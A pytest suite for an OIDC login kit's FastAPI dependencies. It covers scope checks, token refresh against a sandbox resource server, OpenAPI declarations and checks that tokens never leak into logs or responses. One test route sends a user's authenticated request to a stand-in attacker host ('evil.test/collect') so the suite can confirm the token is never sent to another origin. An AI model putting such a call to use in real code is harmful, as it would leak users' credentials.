"""oidc_kit.fastapi: the dependencies in a FastAPI app, logged in through the sandbox provider.

In process: the browser reaches the app through ``httpx.ASGITransport``; the kit reaches the
sandbox provider and the sandbox ORCA (example_app's, which validates the access token and its
scopes) through transports mounted on its HTTP client. One clock drives the provider, ORCA and
the kit, so an expiry is a clock move, not a sleep. At the end, docs/fastapi.md's app is served
for real: the sandbox provider, the app under uvicorn and a sandbox ORCA, three processes.
"""

# No `from __future__ import annotations`: FastAPI must evaluate the routes' annotations, and
# create_app's aliases (Orca) are local names that a string annotation could not resolve.

import ast
import dataclasses
import json
import logging
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Annotated, Any

import httpx
import pytest
from fastapi import FastAPI, Security
from fastapi.responses import HTMLResponse, JSONResponse
from starlette.routing import Mount, Router
from starlette.types import Receive, Scope, Send

from example_app.sandbox_orca import SandboxOrca
from oidc_kit import MemoryStore, OIDCConfig, TokenSet
from oidc_kit.fastapi import (
    CurrentUser,
    OIDCUser,
    OptionalUser,
    UserAuth,
    requires_scope,
    user_client,
)
from oidc_kit.starlette import OIDCAuth
from oidc_kit.testing import SandboxClient, SandboxProvider, sandbox_login
from tests.conftest import Clock
from tests.docs_snippets import page_source, python_blocks, serve_docs_app
from tests.servers import ROOT, free_port, serve
from tests.servers import sandbox_login as sandbox_login_sync

APP, ISSUER, ORCA_HOST = "https://app.test", "https://op.test", "https://orca.test"
ORCA = f"{ORCA_HOST}/orca/v1"
CLIENT_ID, CLIENT_SECRET = "fastapi-app", "fastapi-app-secret-0123"
SCOPES = ("openid", "profile", "offline_access", "accounts:read")
TTL = 600


class TokenRecorder(httpx.AsyncBaseTransport):
    """The provider in process; keeps every token its token endpoint hands out."""

    def __init__(self, op: SandboxProvider) -> None:
        self._inner = httpx.ASGITransport(app=op.app)
        self.tokens: list[str] = []

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        response = await self._inner.handle_async_request(request)
        if request.url.path == "/token":
            body = json.loads(await response.aread())
            self.tokens += [
                body[k] for k in ("access_token", "refresh_token", "id_token") if k in body
            ]
        return response


class Elsewhere(httpx.AsyncBaseTransport):
    """Every host not mounted: records what would have left the process, answers 502."""

    def __init__(self) -> None:
        self.requests: list[httpx.Request] = []

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        return httpx.Response(502)


@dataclass
class FlakyOrca:
    """The sandbox ORCA, recording each request's headers; it can refuse the next ``n`` with
    ORCA's 401 whatever the token (a revoked token, clock skew at the resource server)."""

    app: Any
    reject_next: int = 0
    headers: list[dict[str, str]] = field(default_factory=list)

    @property
    def tokens(self) -> list[str]:
        return [h.get("authorization", "").removeprefix("Bearer ") for h in self.headers]

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        self.headers.append({k.decode(): v.decode() for k, v in scope["headers"]})
        if self.reject_next:
            self.reject_next -= 1
            body = {"error": "unauthorized", "error_description": "The access token is invalid"}
            await JSONResponse(body, status_code=401)(scope, receive, send)
            return
        await self.app(scope, receive, send)


@dataclass
class World:
    clock: Clock
    op: SandboxProvider
    recorder: TokenRecorder
    orca: FlakyOrca
    elsewhere: Elsewhere
    http: httpx.AsyncClient
    auth: OIDCAuth
    app: FastAPI
    browser: httpx.AsyncClient

    async def login(self, user: str = "alice") -> None:
        done = await sandbox_login(self.browser, self.op, user)
        assert done.status_code == 303, done.text

    async def get(self, path: str, **kwargs: Any) -> httpx.Response:
        return await self.browser.get(path, **kwargs)


def kit_http(recorder: TokenRecorder, orca: Any, elsewhere: Elsewhere) -> httpx.AsyncClient:
    mounts = {ISSUER: recorder, ORCA_HOST: httpx.ASGITransport(app=orca)}
    return httpx.AsyncClient(transport=elsewhere, mounts=mounts)


def create_app(auth: OIDCAuth, *, middleware: bool = True, **orca_options: Any) -> FastAPI:
    """An app using every dependency; ``orca_options`` go to ``user_client``."""
    orca_client = user_client(ORCA, **orca_options)
    Orca = Annotated[httpx.AsyncClient, Security(orca_client, scopes=["accounts:read"])]
    CardsOrca = Annotated[httpx.AsyncClient, Security(orca_client, scopes=["cards:write"])]
    app = FastAPI(
        routes=[Mount("/auth", routes=auth.routes)],
        middleware=[auth.middleware] if middleware else [],
        exception_handlers=auth.exception_handlers,
    )

    @app.get("/api/me")
    async def me(user: CurrentUser) -> dict[str, str]:
        return {"sub": user.identity, "name": user.display_name}

    @app.get("/api/maybe")
    async def maybe(user: OptionalUser) -> dict[str, str | None]:
        return {"sub": None if user is None else user.identity}

    @app.get("/api/scoped", dependencies=[requires_scope("accounts:read")])
    async def scoped() -> dict[str, bool]:
        return {"ok": True}

    @app.get("/api/cards", dependencies=[requires_scope("cards:read")])
    async def cards() -> dict[str, bool]:
        return {"ok": True}

    @app.get("/api/profile-scope", dependencies=[requires_scope("profile")])
    async def profile_scope() -> dict[str, bool]:
        return {"ok": True}

    @app.get("/api/both")
    async def both(
        user: Annotated[OIDCUser, requires_scope("accounts:read", "cards:write")],
    ) -> dict[str, str]:
        return {"sub": user.identity}

    @app.get("/cards")
    async def cards_page(user: Annotated[OIDCUser, requires_scope("cards:read")]) -> HTMLResponse:
        return HTMLResponse(f"<p>{user.identity}</p>")

    @app.get("/profile")
    async def profile(user: CurrentUser) -> HTMLResponse:
        return HTMLResponse(f"<p>{user.display_name}</p>")

    @app.get("/api/accounts")
    async def accounts(orca: Orca) -> JSONResponse:
        answer = await orca.get("/accounts")
        return JSONResponse(answer.json(), status_code=answer.status_code)

    @app.get("/api/card-write")
    async def card_write(orca: CardsOrca) -> JSONResponse:
        answer = await orca.get("/cards")
        return JSONResponse(answer.json(), status_code=answer.status_code)

    @app.get("/api/elsewhere")
    async def elsewhere(orca: Orca) -> JSONResponse:
        answer = await orca.get("https://evil.test/collect")
        return JSONResponse({"status": answer.status_code})

    shared = auth.http  # stands for the app's own client, shared by every user

    @app.get("/api/shared")
    async def shared_accounts(user_auth: UserAuth) -> JSONResponse:
        answer = await shared.get(f"{ORCA}/accounts", auth=user_auth)
        return JSONResponse(answer.json(), status_code=answer.status_code)

    return app


def make_kit(clock: Clock, http: httpx.AsyncClient) -> OIDCAuth:
    config = OIDCConfig(
        issuer=ISSUER,
        client_id=CLIENT_ID,
        client_secret=CLIENT_SECRET,
        base_url=APP,
        scopes=SCOPES,
        session_secrets=("fastapi-test-secret-0123456789abcdef",),
    )
    return OIDCAuth(config, http_client=http, store=MemoryStore(), clock=clock)


@pytest.fixture
async def world() -> AsyncIterator[World]:
    clock = Clock()
    client = SandboxClient(CLIENT_ID, CLIENT_SECRET, (f"{APP}/auth/callback",))
    op = SandboxProvider(ISSUER, [client], clock=clock, access_token_ttl=TTL)
    recorder, elsewhere = TokenRecorder(op), Elsewhere()
    orca = FlakyOrca(app=None)
    http = kit_http(recorder, orca, elsewhere)
    orca.app = Router([Mount("/orca/v1", app=SandboxOrca(ISSUER, http, clock=clock).app)])
    auth = make_kit(clock, http)
    app = create_app(auth)
    transport = httpx.ASGITransport(app=app)
    async with auth, http, httpx.AsyncClient(transport=transport, base_url=APP) as browser:
        yield World(clock, op, recorder, orca, elsewhere, http, auth, app, browser)
    await op.aclose()


# --- logged out ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", ["/api/me", "/api/scoped", "/api/cards", "/api/both", "/api/accounts", "/api/shared"]
)
async def test_logged_out_api_routes_answer_401_login_required(world: World, path: str) -> None:
    response = await world.get(path)
    assert response.status_code == 401
    assert response.json() == {"error": "login_required", "error_description": "log in to continue"}
    assert response.headers["cache-control"] == "no-store"
    assert world.orca.headers == []  # nothing went to ORCA


@pytest.mark.parametrize("path", ["/profile", "/cards"])
async def test_logged_out_pages_redirect_to_login(world: World, path: str) -> None:
    response = await world.get(path)
    assert response.status_code == 303
    assert response.headers["location"] == "/auth/login?" + str(httpx.QueryParams(next=path))


async def test_optional_user_is_none_when_logged_out(world: World) -> None:
    assert (await world.get("/api/maybe")).json() == {"sub": None}


# --- logged in -----------------------------------------------------------------------------


async def test_current_user_is_the_logged_in_user(world: World) -> None:
    await world.login("alice")
    assert (await world.get("/api/me")).json() == {"sub": "sandbox-alice", "name": "Alice Example"}
    assert (await world.get("/api/maybe")).json() == {"sub": "sandbox-alice"}
    assert (await world.get("/profile")).text == "<p>Alice Example</p>"


async def test_a_granted_scope_passes(world: World) -> None:
    await world.login()
    response = await world.get("/api/scoped")
    assert response.status_code == 200
    assert response.json() == {"ok": True}


async def test_a_scope_not_granted_is_403_insufficient_scope(world: World) -> None:
    await world.login()
    response = await world.get("/api/cards")
    assert response.status_code == 403
    assert response.json() == {
        "error": "insufficient_scope",
        "error_description": "this needs the scope cards:read, which the login did not grant",
    }
    both = await world.get("/api/both")  # one of two granted: only the missing one is named
    assert both.status_code == 403
    assert both.json()["error_description"] == (
        "this needs the scope cards:write, which the login did not grant"
    )
    assert (await world.get("/api/me")).status_code == 200  # the session is still fine


async def test_a_page_without_the_scope_gets_a_403_page_not_a_login_loop(world: World) -> None:
    await world.login()
    response = await world.get("/cards")
    assert response.status_code == 403
    assert response.headers["content-type"].startswith("text/html")
    assert "insufficient_scope" in response.text


async def _session_with_tokens(world: World, scope: str | None) -> httpx.AsyncClient:
    """A browser whose session holds a token set granting ``scope`` (``None``: not said)."""
    now = world.clock()
    tokens = TokenSet("at-1", "Bearer", now + TTL, now, refresh_token="rt-1", scope=scope)
    claims = {"iss": ISSUER, "sub": "sandbox-alice", "name": "Alice Example"}
    session = await world.auth._sessions.create(tokens, claims, None)
    cookie = world.auth._web.session_cookie_header(session.sid).split(";")[0]
    name, value = cookie.split("=", 1)
    transport = httpx.ASGITransport(app=world.app)
    return httpx.AsyncClient(transport=transport, base_url=APP, cookies={name: value})


async def test_the_granted_scope_is_the_token_endpoints_not_the_requested_one(
    world: World,
) -> None:
    # Asked for profile and accounts:read, granted only accounts:read (the user declined).
    async with await _session_with_tokens(world, "openid accounts:read") as browser:
        assert (await browser.get("/api/scoped")).status_code == 200
        response = await browser.get("/api/profile-scope")
    assert response.status_code == 403
    assert response.json()["error"] == "insufficient_scope"


async def test_a_token_response_without_scope_granted_what_was_requested(world: World) -> None:
    async with await _session_with_tokens(world, None) as browser:  # RFC 6749 5.1
        assert (await browser.get("/api/scoped")).status_code == 200
        assert (await browser.get("/api/cards")).status_code == 403


async def test_openapi_declares_the_session_cookie_and_the_scopes(world: World) -> None:
    spec = (await world.get("/openapi.json")).json()
    scheme = spec["components"]["securitySchemes"]["oidc_session"]
    assert scheme["type"] == "apiKey" and scheme["in"] == "cookie"
    assert scheme["name"] == "oidc_session"
    paths = spec["paths"]
    assert paths["/api/me"]["get"]["security"] == [{"oidc_session": []}]
    assert paths["/api/scoped"]["get"]["security"] == [{"oidc_session": ["accounts:read"]}]
    assert paths["/api/both"]["get"]["security"] == [
        {"oidc_session": ["accounts:read", "cards:write"]}
    ]
    assert paths["/api/accounts"]["get"]["security"] == [{"oidc_session": ["accounts:read"]}]
    assert paths["/api/shared"]["get"]["security"] == [{"oidc_session": []}]
    assert "security" not in paths["/api/maybe"]["get"]


# --- calling ORCA as the user ----------------------------------------------------------------


async def test_the_user_client_calls_orca_with_the_users_token(world: World) -> None:
    await world.login()
    response = await world.get("/api/accounts")
    assert response.status_code == 200, response.text
    assert "Everyday Current" in response.text  # alice's accounts, from the sandbox ORCA
    assert len(world.orca.tokens) == 1
    assert world.orca.tokens[0] == world.recorder.tokens[0]  # the access token of her login
    assert world.orca.headers[0]["host"] == "orca.test"
    assert world.elsewhere.requests == []


async def test_the_user_client_refreshes_once_when_orca_answers_401(world: World) -> None:
    await world.login()
    world.orca.reject_next = 1
    response = await world.get("/api/accounts")
    assert response.status_code == 200, response.text
    assert world.op.grant_counts["refresh_token"] == 1
    first, second = world.orca.tokens
    assert first != second
    assert second in world.recorder.tokens  # the refreshed token, from the provider


async def test_a_second_401_is_orcas_answer(world: World) -> None:
    await world.login()
    world.orca.reject_next = 2
    response = await world.get("/api/accounts")
    assert response.status_code == 401
    assert response.json()["error"] == "unauthorized"  # ORCA's body, passed through
    assert world.op.grant_counts["refresh_token"] == 1
    assert len(world.orca.tokens) == 2


async def test_the_user_client_refreshes_before_expiry(world: World) -> None:
    await world.login()
    assert (await world.get("/api/accounts")).status_code == 200
    world.clock.advance(TTL)  # the access token expired
    response = await world.get("/api/accounts")
    assert response.status_code == 200, response.text
    assert world.op.grant_counts["refresh_token"] == 1
    # Refreshed before the call, not after a 401: one more request, with a new token.
    assert len(world.orca.tokens) == 2
    assert world.orca.tokens[0] != world.orca.tokens[1]


async def test_a_user_client_requiring_a_scope_checks_it_before_calling(world: World) -> None:
    await world.login()
    response = await world.get("/api/card-write")
    assert response.status_code == 403
    assert response.json()["error"] == "insufficient_scope"
    assert world.orca.headers == []


async def test_the_user_client_never_sends_the_token_to_another_origin(world: World) -> None:
    await world.login()
    response = await world.get("/api/elsewhere")
    assert response.status_code == 500
    assert response.json()["error"] == "configuration_error"
    assert world.elsewhere.requests == []


async def test_user_auth_with_the_apps_shared_client(world: World) -> None:
    await world.login()
    response = await world.get("/api/shared")
    assert response.status_code == 200, response.text
    assert world.orca.tokens == [world.recorder.tokens[0]]


async def test_a_user_client_over_the_apps_own_client(world: World) -> None:
    """``http_client=``: its connections, headers and hooks, but never its own auth."""
    seen: list[str] = []

    async def hook(request: httpx.Request) -> None:
        seen.append(str(request.url))

    own = httpx.AsyncClient(
        mounts={ORCA_HOST: httpx.ASGITransport(app=world.orca)},
        transport=world.elsewhere,
        headers={"x-app": "demo"},
        auth=httpx.BasicAuth("app", "not-the-users"),
        event_hooks={"request": [hook]},
    )
    app = create_app(world.auth, http_client=own)
    async with own, httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url=APP) as b:
        assert (await sandbox_login(b, world.op, "bob")).status_code == 303
        response = await b.get("/api/accounts")
    assert response.status_code == 200, response.text
    assert seen == [f"{ORCA}/accounts"]
    headers = world.orca.headers[-1]
    assert headers["x-app"] == "demo"
    assert headers["authorization"].startswith("Bearer ")


# --- mistakes --------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/api/me", "/api/maybe"])
async def test_without_the_middleware_the_dependencies_say_so(world: World, path: str) -> None:
    app = create_app(world.auth, middleware=False)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url=APP) as b:
        response = await b.get(path)
    assert response.status_code == 500
    assert response.json()["error"] == "configuration_error"
    assert "middleware" in response.json()["error_description"]


@pytest.mark.parametrize("scopes", [(), ("",), ("accounts:read cards:read",), ('a"b',)])
def test_requires_scope_refuses_what_is_not_a_scope(scopes: tuple[str, ...]) -> None:
    with pytest.raises(ValueError):
        requires_scope(*scopes)


@pytest.mark.parametrize("base", ["/orca/v1", "ftp://orca.test/", "orca.test"])
def test_user_client_needs_an_absolute_http_url(base: str) -> None:
    with pytest.raises(ValueError):
        user_client(base)


# --- no token leaks ---------------------------------------------------------------------------


async def test_no_token_in_any_answer_or_log_line(
    world: World, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    answers = [await world.get("/api/me")]
    await world.login()
    world.orca.reject_next = 1
    for path in ("/api/me", "/api/maybe", "/api/scoped", "/api/cards", "/api/accounts"):
        answers.append(await world.get(path))
    world.clock.advance(TTL)
    for path in ("/api/accounts", "/api/shared", "/api/elsewhere", "/cards", "/profile"):
        answers.append(await world.get(path))
    answers.append(await world.get("/auth/session"))
    assert world.op.grant_counts["refresh_token"] == 2
    assert len(world.recorder.tokens) >= 6  # access, refresh and ID tokens, three times
    logged = "\n".join(f"{r.getMessage()} {r.exc_text or ''}" for r in caplog.records)
    for token in world.recorder.tokens:
        assert token not in logged
        for answer in answers:
            assert token not in answer.text and token not in str(answer.headers)


# --- the documentation ----------------------------------------------------------------------

DOCS = ROOT / "docs" / "fastapi.md"
KIT_LINE = re.compile(r"oidc_kit|OIDCAuth|OIDCConfig|\bauth\b|CurrentUser|Mount")
WORDS = ["Zero", "One", "Two", "Three", "Four", "Five", "Six", "Seven", "Eight", "Nine"]


def test_the_minimal_app_needs_under_ten_lines_of_integration() -> None:
    minimal = python_blocks(DOCS)[0]
    kit_lines = [line for line in minimal.splitlines() if KIT_LINE.search(line)]
    assert 0 < len(kit_lines) < 10, kit_lines
    # The page marks them "# kit" and counts them: the marks and the count must tell the truth.
    assert kit_lines == [line for line in minimal.splitlines() if "# kit" in line]
    assert f"{WORDS[len(kit_lines)]} lines are integration" in DOCS.read_text()


ORCA_STUB = """
import os

import httpx

from example_app.sandbox_orca import SandboxOrca

app = SandboxOrca(os.environ["ORCA_ISSUER"], httpx.AsyncClient()).app
"""


def test_the_docs_app_served_for_real(tmp_path: Path) -> None:
    """docs/fastapi.md's app under uvicorn, the sandbox provider, and a sandbox ORCA: alice
    logs in, reads herself, passes one scope check and fails another, and reads her accounts
    from ORCA with her token."""
    orca_port = free_port()
    env = {
        "OIDC_SCOPES": "openid profile offline_access accounts:read transactions:read",
        "ORCA_API_BASE": f"http://127.0.0.1:{orca_port}",
    }
    (tmp_path / "orca_stub.py").write_text(ORCA_STUB, encoding="utf-8")
    with serve_docs_app(page_source(DOCS), tmp_path, env) as stack:
        orca_env = {"ORCA_ISSUER": stack.provider.base_url, "PYTHONPATH": f"{tmp_path}:{ROOT}"}
        orca_args = ["-m", "uvicorn", "orca_stub:app", "--port", str(orca_port)]
        orca_args += ["--host", "127.0.0.1", "--log-level", "warning"]
        with (
            serve(orca_args, orca_port, orca_env, tmp_path / "orca.log", "/accounts"),
            httpx.Client(base_url=stack.app.base_url) as browser,
        ):
            logged_out = browser.get("/api/me")
            assert logged_out.status_code == 401
            assert logged_out.json()["error"] == "login_required"

            assert sandbox_login_sync(browser, "alice", "/api/me").status_code == 303

            assert browser.get("/api/me").json() == {
                "sub": "sandbox-alice",
                "name": "Alice Example",
            }
            assert browser.get("/api/overview").json() == {"sub": "sandbox-alice"}
            cards = browser.get("/api/cards")
            assert cards.status_code == 403
            assert cards.json()["error"] == "insufficient_scope"
            accounts = browser.get("/api/accounts")
            assert accounts.status_code == 200, stack.app.log()
            assert "Everyday Current" in accounts.text
            party = browser.get("/api/party")  # parties:read was not asked for: ORCA's 403
            assert party.status_code == 403
            assert party.json()["error"] == "forbidden"
        assert "Traceback" not in stack.app.log(), stack.app.log()


# --- the module ------------------------------------------------------------------------------


def test_only_oidc_kit_fastapi_imports_fastapi() -> None:
    """FastAPI stays an optional extra: no other module of the kit may import it."""
    importers = []
    for module in (ROOT / "oidc_kit").rglob("*.py"):
        for node in ast.walk(ast.parse(module.read_text(encoding="utf-8"))):
            names = (
                [a.name for a in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
                if isinstance(node, ast.ImportFrom) and node.level == 0
                else []
            )
            if any(n == "fastapi" or n.startswith("fastapi.") for n in names):
                importers.append(module.relative_to(ROOT).as_posix())
    assert sorted(set(importers)) == ["oidc_kit/fastapi.py"]


def test_the_public_names_are_sorted_and_exist() -> None:
    import oidc_kit.fastapi

    assert oidc_kit.fastapi.__all__ == sorted(oidc_kit.fastapi.__all__)
    for name in oidc_kit.fastapi.__all__:
        assert hasattr(oidc_kit.fastapi, name), name
    assert oidc_kit.fastapi.OIDCAuth is OIDCAuth  # a re-export, not a second class


async def test_a_scope_check_does_not_open_the_sealed_tokens(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The grant is in the record's clear header: no decryption on a scoped route."""
    await world.login()

    def no_opening(session: object) -> object:
        raise AssertionError("the scope check opened the sealed tokens")

    monkeypatch.setattr(world.auth._sessions, "tokens", no_opening)
    assert (await world.get("/api/scoped")).status_code == 200
    assert (await world.get("/api/cards")).status_code == 403


def _sid(world: World, browser: httpx.AsyncClient) -> str:
    sid, _ = world.auth._cookies.read_session(browser.cookies[world.auth.session_cookie])
    assert sid is not None
    return sid


async def test_a_record_written_before_the_grant_was_kept_still_checks_scopes(
    world: World,
) -> None:
    async with await _session_with_tokens(world, "openid accounts:read") as browser:
        sid = _sid(world, browser)
        old = await world.auth._sessions.load(sid)
        assert old is not None and old.granted_scope == "openid accounts:read"
        await world.auth._sessions.save(dataclasses.replace(old, granted_scope=None))
        assert (await browser.get("/api/scoped")).status_code == 200  # from the sealed tokens
        assert (await browser.get("/api/profile-scope")).status_code == 403


async def test_a_refresh_that_narrows_the_grant_is_seen_by_the_scope_check(
    world: World,
) -> None:
    async with await _session_with_tokens(world, "openid accounts:read") as browser:
        assert (await browser.get("/api/scoped")).status_code == 200
        sid = _sid(world, browser)
        session = await world.auth._sessions.load(sid)
        assert session is not None
        now = world.clock()
        narrower = TokenSet("at-2", "Bearer", now + TTL, now, refresh_token="rt-2", scope="openid")
        await world.auth._sessions.save(world.auth._sessions.with_tokens(session, narrower))
        response = await browser.get("/api/scoped")
    assert response.status_code == 403
    assert response.json()["error"] == "insufficient_scope"
